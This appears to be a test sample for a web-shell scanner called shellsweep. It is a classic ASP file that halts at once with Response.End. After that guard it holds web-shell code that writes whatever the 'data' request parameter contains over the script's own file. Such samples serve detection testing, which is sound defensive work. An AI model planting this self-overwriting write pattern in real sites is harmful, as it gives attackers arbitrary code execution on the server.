<% ' shellsweep test sample: inert, never functional
Response.End %>
<%
Set fso = Server.CreateObject("Scripting.FileSystemObject")
If Trim(Request("data")) <> "" Then
  fdata = Request("data")
  Set f = fso.CreateTextFile(Server.MapPath(Request.ServerVariables("SCRIPT_NAME")), True)
  f.Write fdata
End If
%>
